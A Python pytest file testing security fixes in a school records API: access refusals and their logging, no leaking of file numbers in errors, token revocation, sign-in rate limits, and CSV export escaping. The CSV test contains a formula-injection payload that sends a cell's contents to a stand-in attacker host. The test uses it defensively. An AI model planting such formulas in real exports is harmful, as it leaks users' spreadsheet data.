"""Issue 11 against the server: ids parsed once at the edge, no error that lists
records the caller may not read, refused reads logged, sign-in limits, tokens
revoked by a new account version, CSV cells that cannot run as formulas."""

from __future__ import annotations

import csv
import io
import re
import threading
from typing import Any
from uuid import UUID, uuid4

import pytest

from api.server.accounts import Account
from tests.support.serving import PASSWORD, Served, serve
from tests.support.stores import Store

JOURNAL = "/reports/journal?class=9А&year=2024/2025&subject=math&period=Q1"


def _get(s: Served, path: str, account: str) -> Any:
    return s.client.get(path, headers=s.auth(account))


def _log(s: Served) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = _get(s, "/access-log", "auditor").json()["items"]
    return rows


def _sign_in(s: Served, name: str, password: str = PASSWORD) -> Any:
    return s.client.post("/token", data={"username": name, "password": password})


# -- item 6: one canonical id, no lists, refusals logged ---------------------------


@pytest.mark.parametrize(
    "spelling",
    [
        lambda u: str(u).upper(),
        lambda u: "{" + str(u) + "}",
        lambda u: f"urn:uuid:{u}",
        lambda u: f"URN:UUID:{str(u).upper()}",
        lambda u: u.hex,
    ],
    ids=["upper", "braces", "urn", "urn-upper", "no-hyphens"],
)
def test_a_pupil_id_in_any_spelling_is_the_same_pupil(
    served: Served, spelling: Any
) -> None:
    child = served.school.pupils[0]
    answer = _get(served, f"/reports/diary?pupil={spelling(child)}", "guardian")
    assert answer.status_code == 200, answer.text
    assert answer.json()["parameters"]["pupil"] == _file_number(served, child)
    [row] = _log(served)
    assert row["subject"] == f"pupil:{child}"
    other = served.school.pupils[1]
    refused = _get(served, f"/reports/diary?pupil={spelling(other)}", "guardian")
    assert refused.status_code == 403
    assert _log(served)[-1]["subject"] == f"pupil:{other}"


def test_no_error_lists_the_files_a_reader_may_not_read(served: Served) -> None:
    """A guardian whose account names a pupil the records do not know gets a
    plain 404: not the school's personal-file numbers, not the pupil count."""
    stranger = uuid4()
    served.office.accounts.add(
        Account("guardian2", ("guardian",), pupils=(stranger,)), PASSWORD
    )
    token = _sign_in(served, "guardian2").json()["access_token"]
    answer = served.client.get(
        f"/reports/diary?pupil={str(stranger).upper()}",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 404, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    problem = answer.json()
    files = [_file_number(served, p) for p in served.school.pupils]
    assert not any(f in answer.text for f in files)
    assert "personal files" not in problem["detail"]
    assert "in all" not in problem["detail"]
    row = _log(served)[-1]
    assert row["account"] == "guardian2"
    assert row["action"].startswith("refused 404: report diary")
    assert row["subject"] == f"pupil:{stranger}"
    # the office may read every file: it gets the reason, with the files
    office = _get(served, f"/reports/diary?pupil={stranger}", "auditor")
    assert office.status_code == 422
    assert files[0] in office.json()["detail"]


def _file_number(s: Served, pupil: UUID) -> str:
    with s.office.reading() as ctx:
        from ledger.domain.people import PersonalFile

        found = ctx.view(PersonalFile, pupil)
        assert found is not None
        return str(found.personal_file)


def test_every_refused_read_is_logged(served: Served) -> None:
    other = served.school.pupils[1]
    assert _get(served, f"/reports/portfolio?pupil={other}", "pupil").status_code == 403
    assert _get(served, JOURNAL, "cover").status_code == 403
    assert _get(served, f"/lessons/{served.lesson}", "cover").status_code == 403
    missing = f"/lessons/{uuid4()}"
    assert _get(served, missing, "maths").status_code == 404
    rows = _log(served)
    assert [(r["account"], r["action"].split(":")[0]) for r in rows] == [
        ("pupil", "refused 403"),
        ("cover", "refused 403"),
        ("cover", "refused 403"),
        ("maths", "refused 404"),
    ]
    assert rows[0]["subject"] == f"pupil:{other}"
    assert rows[3]["subject"] == f"lesson:{missing.rsplit('/', 1)[1]}"


# -- item 10: a new password or a deactivation revokes tokens ----------------------


def test_a_password_change_revokes_the_tokens_issued_before(served: Served) -> None:
    old = served.auth("english")
    assert served.client.get("/me", headers=old).status_code == 200
    served.office.accounts.change_password("english", "a new long passphrase", by="t")
    refused = served.client.get("/me", headers=old)
    assert refused.status_code == 401
    assert refused.json()["type"].endswith("/token-revoked")
    assert _sign_in(served, "english").status_code == 401
    new = _sign_in(served, "english", "a new long passphrase").json()["access_token"]
    again = served.client.get("/me", headers={"Authorization": f"Bearer {new}"})
    assert again.status_code == 200


def test_a_deactivation_revokes_tokens_at_once(served: Served) -> None:
    token = served.auth("secretary")
    assert served.client.get("/me", headers=token).status_code == 200
    served.office.accounts.deactivate("secretary", by="t")
    assert served.client.get("/me", headers=token).status_code == 401
    assert _get(served, JOURNAL, "secretary").status_code == 401


# -- item 9: sign-ins bounded -------------------------------------------------------


@pytest.fixture
def guarded(store: Store) -> Any:
    with serve(
        store,
        sign_in_slots=2,
        sign_in_wait_seconds=60,
        sign_in_per_login=10,
        sign_in_per_address=25,
        password_memory_kib=8192,
    ) as s:
        yield s


def _concurrently(s: Served, forms: list[dict[str, str]]) -> list[Any]:
    start = threading.Barrier(len(forms))
    answers: list[Any] = [None] * len(forms)

    def attempt(i: int) -> None:
        start.wait()
        answers[i] = s.client.post("/token", data=forms[i])

    threads = [threading.Thread(target=attempt, args=(i,)) for i in range(len(forms))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return answers


def test_concurrent_wrong_passwords_are_bounded_and_answered_429(
    guarded: Served,
) -> None:
    s = guarded
    wrong = {"username": "maths", "password": "not the password"}
    answers = _concurrently(s, [wrong] * 40)
    statuses = sorted(a.status_code for a in answers)
    assert statuses == [401] * 10 + [429] * 30
    gate = s.office.hashing
    assert 1 <= gate.most_running <= gate.slots == 2
    assert gate.running == 0
    limited = next(a for a in answers if a.status_code == 429)
    assert limited.headers["content-type"] == "application/problem+json"
    assert int(limited.headers["retry-after"]) >= 1
    assert limited.json()["type"].endswith("/too-many-sign-ins")
    # the login stays limited, even with the right password, for the window
    assert _sign_in(s, "maths").status_code == 429
    # the address: 10 counted so far, 25 allowed
    others = [{"username": f"nobody{i}", "password": "x" * 12} for i in range(16)]
    answers = _concurrently(s, others)
    assert sorted(a.status_code for a in answers) == [401] * 15 + [429]
    assert s.office.hashing.most_running <= 2


def test_successful_sign_ins_do_not_count(guarded: Served) -> None:
    for _ in range(15):
        assert _sign_in(guarded, "english").status_code == 200


# -- item 11: CSV cells that cannot run -----------------------------------------


def test_a_topic_starting_with_a_formula_is_neutralised_in_csv(served: Served) -> None:
    topic = '=HYPERLINK("http://evil.example/?"&A1,"Урок")'
    sheet = served.sheet(2, topic=topic)
    maths = served.auth("maths")
    posted = served.client.post("/lesson-sheets", json=sheet, headers=maths)
    assert posted.status_code == 201, posted.text
    served.office.sealer.seal()
    answer = _get(served, f"{JOURNAL}&format=csv", "maths")
    assert answer.status_code == 200, answer.text
    cells = [
        c for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))) for c in row
    ]
    assert "'" + topic in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(
        c.startswith("-") and not re.fullmatch(r"-[0-9]+([.,][0-9]+)?", c)
        for c in cells
    )
    as_json = _get(served, JOURNAL, "maths").text
    assert topic.replace('"', '\\"') in as_json  # JSON keeps the text as written
